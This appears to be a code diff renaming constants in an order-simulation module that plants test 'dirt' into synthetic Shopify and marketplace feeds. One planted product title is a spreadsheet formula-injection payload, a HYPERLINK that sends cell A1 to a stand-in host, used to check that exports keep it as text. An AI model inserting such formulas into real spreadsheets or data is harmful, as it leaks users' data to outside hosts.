@@ -18,16 +18,16 @@ from oms_core.twin.state import NEVER, NetworkState, OpenLine, OpenOrder, Wire, 
 from oms_core.twin.streams import Stream, stream
 from oms_core.twin.wire import included_tax, marketplace_row, shopify_cancelled, shopify_line, shopify_order
 
-CANCEL_SHARE = 0.02
-HOLD_SHARE = 0.03
-HOLD_CANCEL_SHARE = 0.25
-PATIENCE_DAYS = 14
-IMPATIENT_SHARE = 0.05
+_CANCEL_SHARE = 0.02
+_HOLD_SHARE = 0.03
+_HOLD_CANCEL_SHARE = 0.25
+_PATIENCE_DAYS = 14
+_IMPATIENT_SHARE = 0.05
 _FIRST_SECOND, _LAST_SECOND = 6 * 3600, 21 * 3600
 #: Hostile titles: a spreadsheet would run them. They are valid text and must survive as text.
-FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?q="&A1,"Your parcel")'
+_FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?q="&A1,"Your parcel")'
 _FORMULA_EVERY_DAYS, _UNKNOWN_EVERY_DAYS, _LATE_EVERY_DAYS = 11, 10, 9
-UNKNOWN_SKU = "NO-SUCH-SKU"
+_UNKNOWN_SKU = "NO-SUCH-SKU"
 
 
 @dataclass(frozen=True)
@@ -80,7 +80,7 @@ def place_web_orders(network: Network, state: NetworkState, demand: DayDemand, b
     arrival = clock.ordinal + int(rng.integers(3, 9))
     held_back: list[Wire] = []
     for position, basket in enumerate(baskets(network, demand, WEB, clock.ordinal)):
-        cancels, is_late = rng.random() < CANCEL_SHARE, is_late_day and position % 5 == 0
+        cancels, is_late = rng.random() < _CANCEL_SHARE, is_late_day and position % 5 == 0
         order = _web_order(network, state, demand, basket, book)
         ready = clock.ordinal + 1 if not is_late else arrival + 1
         if cancels and not is_late:
@@ -117,8 +117,8 @@ def _plant_formula(network: Network, state: NetworkState, book: DayBook, order: 
         return
     state.counters["formula_day"] = ordinal
     line = order["line_items"][0]
-    line["title"] = FORMULA_TITLE
-    planted = {"feed": SHOPIFY, "business_day": book.clock.iso, "text": FORMULA_TITLE}
+    line["title"] = _FORMULA_TITLE
+    planted = {"feed": SHOPIFY, "business_day": book.clock.iso, "text": _FORMULA_TITLE}
     book.dirt.append({"kind": "formula_text", **planted, "order_ref": str(order["id"]), "line_ref": str(line["id"])})
 
 
@@ -136,13 +136,13 @@ def _open_web_lines(state: NetworkState, order: Wire, basket: Basket, ordinal: i
 
 def _place_unknown_sku(network: Network, state: NetworkState, book: DayBook) -> None:
     number = state.next_number("web_order", 1001)
-    line = shopify_line(state.next_number("web_line", 9_000_000_001), UNKNOWN_SKU, "Not in the assortment", 1, 999, 0)
+    line = shopify_line(state.next_number("web_line", 9_000_000_001), _UNKNOWN_SKU, "Not in the assortment", 1, 999, 0)
     place, at = (network.spec.country, network.regions[0]), book.clock.at(_LAST_SECOND)
     order = shopify_order(5_000_000_000 + number, number, at, 1, place, network.spec.currency, [line])
     _open_web_lines(state, order, Basket(_LAST_SECOND, 1, 0, [-1], [1]), book.clock.ordinal, NEVER)
     book.shopify.append(order)
     book.order_line_count += 1
-    facts = {"feed": SHOPIFY, "business_day": book.clock.iso, "sku": UNKNOWN_SKU}
+    facts = {"feed": SHOPIFY, "business_day": book.clock.iso, "sku": _UNKNOWN_SKU}
     book.dirt.append({"kind": "unknown_sku", **facts, "order_ref": str(order["id"]), "line_ref": str(line["id"])})
 
 
@@ -154,7 +154,7 @@ def place_marketplace_orders(network: Network, state: NetworkState, demand: DayD
         order = OpenOrder({}, [])
         state.open_orders[line_key(MARKETPLACE, order_ref)] = order
         for sku, quantity in zip(basket.skus, basket.quantities, strict=True):
-            is_held = bool(rng.random() < HOLD_SHARE)
+            is_held = bool(rng.random() < _HOLD_SHARE)
             wire = _marketplace_item(network, state, demand, basket, (sku, quantity), order_ref, is_held, book)
             key = line_key(MARKETPLACE, wire["item_id"])
             ready = NEVER if is_held else book.clock.ordinal + 1
@@ -164,7 +164,7 @@ def place_marketplace_orders(network: Network, state: NetworkState, demand: DayD
             order.open_lines.append(key)
             order.wire[key] = wire
             if is_held:
-                outcome = "cancelled" if rng.random() < HOLD_CANCEL_SHARE else "new"
+                outcome = "cancelled" if rng.random() < _HOLD_CANCEL_SHARE else "new"
                 state.plan(book.clock.ordinal + int(rng.integers(1, 4)), "release", key=key, outcome=outcome)
             book.add(MARKETPLACE_FEED, marketplace_row(wire))
 
@@ -212,8 +212,8 @@ def change_orders(network: Network, state: NetworkState, book: DayBook) -> None:
 def _lose_patience(network: Network, state: NetworkState, book: DayBook) -> None:
     """Customers who have waited two weeks begin to give up."""
     rng = stream(network.spec.seed, Stream.PATIENCE, book.clock.ordinal)
-    waiting = [line for line in state.open_lines.values() if book.clock.ordinal - line.placed >= PATIENCE_DAYS]
-    leaving = rng.random(len(waiting)) < IMPATIENT_SHARE
+    waiting = [line for line in state.open_lines.values() if book.clock.ordinal - line.placed >= _PATIENCE_DAYS]
+    leaving = rng.random(len(waiting)) < _IMPATIENT_SHARE
     for line, leaves in zip(waiting, leaving.tolist(), strict=True):
         key = line_key(line.channel, line.line_ref)
         if not leaves or key not in state.open_lines:
